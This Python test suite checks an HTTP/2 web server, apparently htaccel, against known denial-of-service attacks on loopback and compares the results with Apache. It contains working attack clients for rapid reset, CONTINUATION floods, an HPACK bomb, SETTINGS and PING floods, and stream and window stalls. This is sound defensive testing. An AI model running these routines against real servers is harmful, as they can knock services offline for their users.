"""The known HTTP/2 denial-of-service patterns, each against a running
htaccel with a stated bound on its CPU time and memory (RSS of the process
tree, from /proc) and on how promptly a second, well-behaved connection is
answered while the attack runs; Apache 2.4's mod_http2 gets the same
attack on the same configuration (`tests/oracle/serve-equivalent.conf`
with mod_http2 and `Protocols h2 h2c http/1.1`), for the record.

    python3 tests/security/h2attacks.py [--only NAME]

The attack clients write raw frames (tests/security/h2frames.py) over h2c
with prior knowledge. Every scenario runs the attack in a thread for a few
seconds while the main thread asks for /index.html on fresh connections
(p99 of those answers, failures), samples the server's memory (peak
growth) and takes its CPU time across the attack. A scenario fails when
htaccel breaks its bound; Apache's figures are recorded, never judged.
Results go to target/security/h2attacks.json for docs/security.md
(scripts/security_report.py); the last line is `h2attacks: N passed, M failed`.

Only loopback addresses. Standard library only.
"""

import json
import os
import shutil
import socket
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile  # noqa: E402  (servers, measures)
import h2frames as h2  # noqa: E402

REPO = hostile.REPO
ONLY = hostile.ONLY
MIB = hostile.MIB
HTTP2_CONF = ("LoadModule http2_module modules/mod_http2.so\n"
              "Protocols h2 h2c http/1.1\n")
# Seconds each attack runs.
ATTACK_S = 1.5

SCENARIOS = []


def scenario(bound):
    def register(fn):
        SCENARIOS.append((fn.__name__, fn.__doc__.strip().split("\n")[0], bound, fn))
        return fn
    return register


def site(root, big=False):
    """hostile.py's tree; with `big`, a 20 MB file to stall on."""
    hostile.site(root)
    if big:
        with open(os.path.join(root, "big.bin"), "wb") as f:
            f.write(os.urandom(20 * MIB))


def measure(kind, root, rundir, attack, extra_conf=""):
    """Start `kind`, run `attack(server)` in a thread (it returns its own
    findings) while a normal client asks for /index.html every 20 ms; then
    the normal client's p99 and failures, the server's peak memory growth,
    its CPU seconds during the attack, and whether it lived."""
    server = hostile.Server(kind, root, rundir, extra_conf=HTTP2_CONF + extra_conf)
    try:
        # The first answers warm the server up (Apache starts its workers).
        for _ in range(3):
            h2.get(server.port)
        before = server.rss()
        cpu = server.cpu_seconds()
        findings = {}
        errors = []
        # An attack that first builds up its hostile state (streams it will
        # then stall) says when it holds; the normal client measures from
        # then on.
        settled = threading.Event()

        def run():
            try:
                findings.update(attack(server, settled))
            except Exception as e:  # an attack that cannot run fails the scenario
                errors.append(repr(e))
            settled.set()
        thread = threading.Thread(target=run, daemon=True)
        started = time.time()
        thread.start()
        settled.wait()
        latencies, failures, peak = [], 0, before
        while thread.is_alive() or not latencies:
            status, took = h2.get(server.port, timeout=5)
            latencies.append(took)
            failures += status != 200
            peak = max(peak, server.rss())
            time.sleep(0.02)
        thread.join()
        seconds = time.time() - started
        findings.update({
            "attack_s": round(seconds, 1),
            "server_cpu_s": round(server.cpu_seconds() - cpu, 2),
            "peak_rss_growth_mib": round((peak - before) / MIB, 1),
            "normal_requests": len(latencies), "normal_failed": failures,
            "normal_p99_s": round(hostile.p99(latencies), 3),
            "alive": server.alive()})
        if errors:
            findings["error"] = errors[0]
        return findings
    finally:
        server.stop()


# The shortest wall time a CPU bound is taken over: an attack of a few
# frames ends within one 10 ms tick of the kernel's CPU accounting, and
# its 0.01 s of CPU is no share of a wall time that rounds to 0.0 s.
MIN_WALL_S = 0.2


def both(root, rundir, attack, extra_conf="", check=lambda f: True, cpu_share=0.9):
    """The attack on htaccel, then on Apache; htaccel's verdict: alive, the
    normal client always answered with p99 <= 0.5 s, peak memory growth
    <= 64 MiB, server CPU below `cpu_share` of the attack's wall time
    (one core of two; the attacker has the other), and `check(findings)`."""
    ours = measure("htaccel", root, rundir, attack, extra_conf)
    theirs = measure("apache", root, rundir, attack, extra_conf)
    ok = (ours["alive"] and "error" not in ours and ours["normal_failed"] == 0
          and ours["normal_p99_s"] <= 0.5 and ours["peak_rss_growth_mib"] <= 64
          and ours["server_cpu_s"] <= cpu_share * max(ours["attack_s"], MIN_WALL_S)
          and check(ours))
    return ok, ours, theirs


class Flood:
    """A connection an attacker writes to without waiting: what the server
    sends back is read without blocking and only its GOAWAY and RST_STREAM
    codes and whether its answers were 200s are kept; a connection the
    server closed is replaced."""

    def __init__(self, port, **opts):
        self.port, self.opts = port, opts
        self.connections = 0
        self.goaway = {}
        self.resets = {}
        self.answers = {}
        self.conn = None

    def _open(self):
        self.conn = h2.Conn(self.port, timeout=0.5, **self.opts)
        self.connections += 1
        # The server's SETTINGS acknowledged before the attack starts: an
        # ACK sent later could fall inside a header block.
        self.conn.wait_for(lambda f: f[0] == h2.SETTINGS and not f[1] & h2.ACK, 2)
        self.conn.sock.settimeout(0.5)

    def send(self, data):
        """Send, then read what came back: whether `data` was written.
        A connection the server closed is dropped (`self.conn` is None)
        and the next send opens a new one."""
        if self.conn is None:
            self._open()
        try:
            self.conn.send(data)
        except socket.timeout:
            # The server stopped reading: back-pressure, not an end.
            self.drain()
            return False
        except OSError:
            self.close()
            return False
        self.drain()
        return True

    def drain(self):
        c = self.conn
        if c is None:
            return
        # Without blocking: a socket with a timeout would wait for data.
        c.sock.setblocking(False)
        try:
            while True:
                chunk = c.sock.recv(1 << 20)
                if not chunk:
                    self.close()
                    return
                c.buf += chunk
                while len(c.buf) >= 9:
                    length = int.from_bytes(c.buf[:3], "big")
                    if len(c.buf) < 9 + length:
                        break
                    f = (c.buf[3], c.buf[4], 0, c.buf[9:9 + length])
                    if f[0] == h2.HEADERS:
                        # :status 200 is 0x88 (static entry 8); anything else
                        # is recorded as "other".
                        status = "200" if f[3][:1] == b"\x88" else "other"
                        self.answers[status] = self.answers.get(status, 0) + 1
                    name = {h2.GOAWAY: self.goaway, h2.RST_STREAM: self.resets}.get(f[0])
                    if name is not None:
                        code = h2.goaway_code(f) if f[0] == h2.GOAWAY else h2.rst_code(f)
                        name[code] = name.get(code, 0) + 1
                    c.buf = c.buf[9 + length:]
        except (BlockingIOError, socket.timeout):
            pass
        except OSError:
            self.close()
        if self.conn is not None:
            self.conn.sock.settimeout(0.5)

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None

    def report(self):
        return {"connections": self.connections,
                "goaway_codes": {str(k): v for k, v in self.goaway.items()},
                "rst_codes": {str(k): v for k, v in self.resets.items()},
                "answers": self.answers}


# ---------------------------------------------------------------- scenarios

def rapid_reset_attack(pairs_per_write):
    def attack(server, settled):
        flood = Flood(server.port)
        settled.set()
        until = time.time() + ATTACK_S
        sent, stream = 0, 1
        while time.time() < until:
            batch = b"".join(h2.headers(s, h2.request_block()) + h2.rst(s)
                             for s in range(stream, stream + 2 * pairs_per_write, 2))
            if flood.send(batch):
                sent += pairs_per_write
                stream += 2 * pairs_per_write
            if flood.conn is None or stream > 0x7FFFFF00:
                flood.close()
                stream = 1
        flood.close()
        return dict(flood.report(), streams_reset=sent)
    return attack


@scenario("server CPU < 0.9 s per attack second, memory growth <= 64 MiB, "
          "a normal client's p99 <= 0.5 s")
def rapid_reset(root, rundir):
    """Rapid reset (CVE-2023-44487): HEADERS and RST_STREAM pairs, 100 to a write, as fast as one client sends them"""
    site(root)
    return both(root, rundir, rapid_reset_attack(100))


@scenario("server CPU < 0.9 s per attack second, memory growth <= 64 MiB, "
          "a normal client's p99 <= 0.5 s")
def rapid_reset_paced(root, rundir):
    """Rapid reset in small writes (5 pairs), so that each stream may be accepted before its reset arrives"""
    site(root)
    return both(root, rundir, rapid_reset_attack(5))


def continuation(frame_payload):
    def attack(server, settled):
        flood = Flood(server.port)
        settled.set()
        until = time.time() + ATTACK_S
        sent = frames = 0
        closed_after = []
        stream = 1
        first = True
        while time.time() < until:
            if first:
                data = h2.headers(stream, h2.request_block(), end_headers=False)
                first = False
            else:
                data = b"".join(h2.frame(h2.CONTINUATION, 0, stream, frame_payload)
                                for _ in range(64))
            if flood.send(data) and data[3] == h2.CONTINUATION:
                sent += 64 * len(frame_payload)
                frames += 64
            if flood.conn is None:
                closed_after.append(sent)
                sent, first = 0, True
        flood.close()
        return dict(flood.report(), continuation_frames=frames,
                    bytes_before_close=max(closed_after) if closed_after else None,
                    ended_by_server=bool(closed_after) or bool(flood.goaway))
    return attack


@scenario("the server ends the connection, server CPU < 0.9 s per attack second, "
          "memory growth <= 64 MiB, a normal client's p99 <= 0.5 s")
def continuation_flood(root, rundir):
    """CONTINUATION flood (CVE-2024-27316): a header block that never ends, 16 KB fields at a time"""
    site(root)
    field = h2.literal(b"x-flood", b"a" * 16_000)
    return both(root, rundir, continuation(field), check=lambda f: f["ended_by_server"])


@scenario("server CPU < 0.9 s per attack second, memory growth <= 64 MiB, "
          "a normal client's p99 <= 0.5 s")
def continuation_empty(root, rundir):
    """CONTINUATION flood of empty frames: a header block that never ends and never grows"""
    site(root)
    return both(root, rundir, continuation(b""))


@scenario("every bomb refused (reset or GOAWAY), memory growth <= 64 MiB, "
          "a normal client's p99 <= 0.5 s")
def hpack_bomb(root, rundir):
    """HPACK bomb: a 4 KB field put in the dynamic table, then header blocks of 16,000 one-byte references to it (64 MB each)"""
    site(root)
    big = h2.literal(b"x-bomb", b"a" * 4000, incremental=True)
    refs = b"\xbe" * 16_000  # dynamic entry 62, the newest

    def attack(server, settled):
        flood = Flood(server.port)
        settled.set()
        until = time.time() + ATTACK_S
        bombs = 0
        stream = 1
        fresh = True
        while time.time() < until:
            block = h2.request_block() + (big if fresh else b"") + refs
            # Under the client's default 16 KB frame limit: HEADERS and
            # one CONTINUATION.
            data = (h2.headers(stream, block[:16_000], end_headers=False)
                    + h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, block[16_000:]))
            fresh = False
            if flood.send(data):
                bombs += 1
                stream += 2
            if flood.conn is None:
                fresh, stream = True, 1
            time.sleep(0.005)
        time.sleep(0.2)
        flood.drain()
        flood.close()
        return dict(flood.report(), bombs=bombs, decoded_mb_each=64)
    # No bomb is served; each is refused by a reset, or its connection by
    # a GOAWAY.
    return both(root, rundir, attack, check=lambda f: (
        f["bombs"] > 0 and "200" not in f["answers"]
        and sum(f["rst_codes"].values()) + sum(f["goaway_codes"].values()) > 0))


@scenario("a table size beyond SETTINGS_HEADER_TABLE_SIZE ends the connection (GOAWAY "
          "PROTOCOL_ERROR, the h2 crate's code, where RFC 9113 names COMPRESSION_ERROR: "
          "docs/deviations.md); blocks of 4,000 size updates cost bounded CPU and memory")
def hpack_table_size(root, rundir):
    """Dynamic table size games: an update to 1 GiB, and header blocks made of thousands of size updates"""
    site(root)

    def attack(server, settled):
        c = h2.Conn(server.port)
        # Size update (001xxxxx) to 2^30: above the 4,096 the server allows.
        c.send(h2.headers(1, h2.hpack_int(1 << 30, 5, 0x20) + h2.request_block()))
        f = c.wait_for(lambda f: f[0] in (h2.GOAWAY, h2.RST_STREAM), 3)
        c.close()
        oversize = {"frame": {h2.GOAWAY: "GOAWAY", h2.RST_STREAM: "RST_STREAM"}.get(f and f[0]),
                    "code": h2.goaway_code(f) if f and f[0] == h2.GOAWAY else h2.rst_code(f)}
        flood = Flood(server.port)
        settled.set()
        until = time.time() + ATTACK_S
        blocks, stream = 0, 1
        while time.time() < until:
            data = h2.headers(stream, b"\x20" * 4_000 + h2.request_block())
            if flood.send(data):
                blocks += 1
                stream += 2
            if flood.conn is None:
                stream = 1
            # 100 blocks a second: the debug build the suite runs takes
            # about 0.6 ms to decode one (the release build, flooded with
            # blocks of 16,000 updates as fast as one client sends them,
            # kept a normal client's answers under 0.1 s).
            time.sleep(0.01)
        flood.close()
        return dict(flood.report(), oversize_update=oversize, size_update_blocks=blocks)
    # RFC 9113 names COMPRESSION_ERROR for a header block that cannot be
    # decoded, as Apache sends; the h2 crate sends PROTOCOL_ERROR (a row of
    # docs/deviations.md). Either way the connection ends with a GOAWAY.
    return both(root, rundir, attack,
                check=lambda f: f["oversize_update"] == {"frame": "GOAWAY",
                                                         "code": h2.PROTOCOL_ERROR})


def control_flood(make):
    def attack(server, settled):
        # A small receive buffer and no reading: the server's answers
        # (ACKs) can only queue on its side. Frames are written as fast
        # as the server takes them, never a partial frame left behind.
        c = h2.Conn(server.port, rcvbuf=4096)
        c.sock.setblocking(False)
        settled.set()
        until = time.time() + ATTACK_S
        batch = make() * 1000
        written = closed = 0
        pending = b""
        while time.time() < until:
            if not pending:
                pending = batch
            try:
                n = c.sock.send(pending)
                written += n
                pending = pending[n:]
            except BlockingIOError:
                time.sleep(0.005)
            except OSError:
                closed += 1
                break
        c.close()
        return {"frames_sent": written // len(make()), "closed_by_server": bool(closed)}
    return attack


@scenario("queued SETTINGS ACKs bounded: memory growth <= 64 MiB, server CPU < 0.9 s per "
          "attack second, a normal client's p99 <= 0.5 s")
def settings_flood(root, rundir):
    """SETTINGS flood: empty SETTINGS frames from a client that never reads the ACKs"""
    site(root)
    return both(root, rundir, control_flood(lambda: h2.frame(h2.SETTINGS, 0, 0)))


@scenario("queued PING ACKs bounded: memory growth <= 64 MiB, server CPU < 0.9 s per "
          "attack second, a normal client's p99 <= 0.5 s")
def ping_flood(root, rundir):
    """PING flood: PING frames from a client that never reads the ACKs"""
    site(root)
    return both(root, rundir, control_flood(h2.ping))


TIMEOUT_S = 2


@scenario("memory growth <= 64 MiB with 200 stalled streams of a 20 MB file, and every "
          "stalled stream ended within Timeout (%d s) + 2 s" % TIMEOUT_S)
def zero_window(root, rundir):
    """Zero-window stall: 20 connections x 10 streams ask for a 20 MB file with SETTINGS_INITIAL_WINDOW_SIZE 0 and never open it"""
    site(root, big=True)

    def attack(server, settled):
        conns = [h2.Conn(server.port, window=0) for _ in range(20)]
        start = time.time()
        for c in conns:
            c.send(b"".join(h2.headers(s, h2.request_block("/big.bin")) for s in range(1, 21, 2)))
        # Stalled once every stream has its response's HEADERS (its DATA
        # then waits for a window that never opens).
        answered = 0
        for c in conns:
            heads = set()
            while len(heads) < 10:
                f = c.wait_for(lambda f: f[0] in (h2.HEADERS, h2.RST_STREAM, h2.GOAWAY), 5)
                if f is None or f[0] != h2.HEADERS:
                    break
                heads.add(f[2])
            answered += len(heads)
        settled.set()
        # Follow the first connection: when does each stream end?
        open_streams = set(range(1, 21, 2))
        ended = {}
        while open_streams and time.time() < start + TIMEOUT_S + 4:
            f = conns[0].wait_for(lambda f: f[0] in (h2.RST_STREAM, h2.GOAWAY)
                                  or (f[0] in (h2.DATA, h2.HEADERS) and f[1] & h2.END_STREAM),
                                  start + TIMEOUT_S + 4 - time.time())
            if f is None or f[0] == h2.GOAWAY:
                for s in open_streams:
                    ended[s] = ("closed" if f is None else "GOAWAY", time.time() - start)
                break
            if f[2] in open_streams:
                open_streams.discard(f[2])
                ended[f[2]] = ("RST_STREAM %d" % h2.rst_code(f) if f[0] == h2.RST_STREAM
                               else "ended", time.time() - start)
        for c in conns:
            c.close()
        how = sorted({v[0] for v in ended.values()})
        last = max((v[1] for v in ended.values()), default=None)
        return {"stalled_streams": answered, "streams_followed": 10, "ended": len(ended),
                "how": how, "last_end_s": round(last, 1) if last else None}
    return both(root, rundir, attack, extra_conf="Timeout %d\n" % TIMEOUT_S,
                check=lambda f: (f["stalled_streams"] == 200 and f["ended"] == 10
                                 and f["last_end_s"] <= TIMEOUT_S + 2))


@scenario("memory growth <= 64 MiB with 200 request bodies stalled, and every stalled "
          "stream answered or reset within Timeout (%d s) + 2 s" % TIMEOUT_S)
def stalled_bodies(root, rundir):
    """Stalled request bodies (slowloris on HTTP/2): 20 connections x 10 POST streams that announce 100 bytes and send none

    htaccel waits for each body up to `Timeout` and answers 408, as both
    servers do over HTTP/1.1; Apache's mod_http2 answers the static file at
    once without reading the body (its per-stream connections are marked
    to close, so the body is never discarded) -- a difference of the
    stream's exchange, not of its bounds."""
    site(root)
    # POST (:method, static entry 3), content-length 100 (name: entry 28).
    block = (b"\x83\x86" + h2.literal(None, "/index.html", index_name=4)
             + h2.literal(None, "localhost", index_name=1)
             + h2.literal(None, "100", index_name=28))

    def attack(server, settled):
        conns = [h2.Conn(server.port) for _ in range(20)]
        start = time.time()
        for c in conns:
            c.send(b"".join(h2.headers(s, block, end_stream=False) for s in range(1, 21, 2)))
        settled.set()
        # Follow the first connection: when does each stream end?
        open_streams = set(range(1, 21, 2))
        ended = {}
        deadline = start + TIMEOUT_S + 4
        while open_streams and time.time() < deadline:
            f = conns[0].wait_for(lambda f: f[0] in (h2.RST_STREAM, h2.GOAWAY, h2.HEADERS),
                                  deadline - time.time())
            if f is None or f[0] == h2.GOAWAY:
                for s in open_streams:
                    ended[s] = ("closed" if f is None else "GOAWAY", time.time() - start)
                break
            if f[2] in open_streams:
                open_streams.discard(f[2])
                ended[f[2]] = ("RST_STREAM %d" % h2.rst_code(f) if f[0] == h2.RST_STREAM
                               else "answered", time.time() - start)
        for c in conns:
            c.close()
        how = sorted({v[0] for v in ended.values()})
        last = max((v[1] for v in ended.values()), default=None)
        return {"stalled_streams": 200, "streams_followed": 10, "ended": len(ended),
                "how": how, "last_end_s": round(last, 1) if last else None}
    return both(root, rundir, attack, extra_conf="Timeout %d\n" % TIMEOUT_S,
                check=lambda f: (f["ended"] == 10 and f["last_end_s"] is not None
                                 and f["last_end_s"] <= TIMEOUT_S + 2))


@scenario("streams beyond H2MaxSessionStreams (10) refused with REFUSED_STREAM, the first 10 served")
def too_many_streams(root, rundir):
    """Too many streams: 15 concurrent requests on a session that allows 10"""
    site(root, big=True)

    def attack(server, settled):
        settled.set()
        c = h2.Conn(server.port, window=0)
        # The server's SETTINGS first: its limit is then in force.
        c.wait_for(lambda f: f[0] == h2.SETTINGS and not f[1] & h2.ACK, 2)
        c.send(b"".join(h2.headers(s, h2.request_block("/big.bin")) for s in range(1, 31, 2)))
        refused, answered = set(), set()
        until = time.time() + 1.5
        while time.time() < until:
            f = c.wait_for(lambda f: f[0] in (h2.RST_STREAM, h2.HEADERS, h2.GOAWAY), until - time.time())
            if f is None:
                break
            if f[0] == h2.RST_STREAM and h2.rst_code(f) == h2.REFUSED_STREAM:
                refused.add(f[2])
            elif f[0] == h2.HEADERS:
                answered.add(f[2])
        c.close()
        return {"streams": 15, "limit": 10, "refused": len(refused), "answered": len(answered)}
    return both(root, rundir, attack, extra_conf="H2MaxSessionStreams 10\n",
                check=lambda f: f["refused"] == 5 and f["answered"] == 10)


@scenario("a window pushed beyond 2^31-1 is a FLOW_CONTROL_ERROR: GOAWAY for the "
          "connection's, RST_STREAM for a stream's")
def window_overflow(root, rundir):
    """Huge window updates: two increments of 2^31-1 on the connection, and on a stream"""
    site(root, big=True)

    def attack(server, settled):
        settled.set()
        c = h2.Conn(server.port)
        c.send(h2.window_update(0, 0x7FFFFFFF) * 2)
        f = c.wait_for(lambda f: f[0] == h2.GOAWAY, 3)
        c.close()
        connection = h2.goaway_code(f)
        c = h2.Conn(server.port, window=0)
        c.send(h2.headers(1, h2.request_block("/big.bin")))
        c.wait_for(lambda f: f[0] == h2.HEADERS and f[2] == 1, 3)
        c.send(h2.window_update(1, 0x7FFFFFFF) * 2)
        f = c.wait_for(lambda f: f[0] in (h2.RST_STREAM, h2.GOAWAY), 3)
        c.close()
        return {"connection_error": connection,
                "stream_error": {"frame": {h2.GOAWAY: "GOAWAY", h2.RST_STREAM: "RST_STREAM"}.get(f and f[0]),
                                 "code": h2.goaway_code(f) if f and f[0] == h2.GOAWAY else h2.rst_code(f)}}
    return both(root, rundir, attack, check=lambda f: (
        f["connection_error"] == h2.FLOW_CONTROL_ERROR
        and f["stream_error"] == {"frame": "RST_STREAM", "code": h2.FLOW_CONTROL_ERROR}))


# ---------------------------------------------------------------- driver

def main():
    if not os.path.exists(hostile.HTACCEL):
        print("h2attacks: htaccel binary not found at %s (cargo build -p htaccel)" % hostile.HTACCEL)
        return 2
    out = []
    passed = failed = 0
    for name, what, bound, fn in SCENARIOS:
        if ONLY and ONLY not in name:
            continue
        work = tempfile.mkdtemp(prefix="htaccel-h2attacks.")
        os.chmod(work, 0o755)
        root, rundir = os.path.join(work, "root"), os.path.join(work, "run")
        os.makedirs(root)
        os.makedirs(rundir)
        started = time.time()
        try:
            ok, ours, apache = fn(root, rundir)
            error = None
        except Exception as e:  # a scenario that cannot run is a failure
            ok, ours, apache, error = False, None, None, repr(e)
        seconds = round(time.time() - started, 1)
        passed += ok
        failed += not ok
        print("%-6s h2attacks/%s (%.1fs): htaccel %s; Apache %s%s" % (
            "ok" if ok else "FAIL", name, seconds, json.dumps(ours), json.dumps(apache),
            "; error " + error if error else ""))
        if not ok:
            logs = os.path.join(rundir, "htaccel.log")
            if os.path.exists(logs):
                print("  htaccel's log (tail):\n    " + "\n    ".join(
                    open(logs, errors="replace").read().splitlines()[-10:]))
        out.append({"name": name, "what": what, "bound": bound, "ok": bool(ok),
                    "htaccel": ours, "apache": apache, "error": error, "seconds": seconds})
        shutil.rmtree(work, ignore_errors=True)
    os.makedirs(os.path.join(REPO, "target/security"), exist_ok=True)
    with open(os.path.join(REPO, "target/security/h2attacks.json"), "w") as f:
        json.dump(out, f, indent=1)
    print("h2attacks: %d passed, %d failed" % (passed, failed))
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
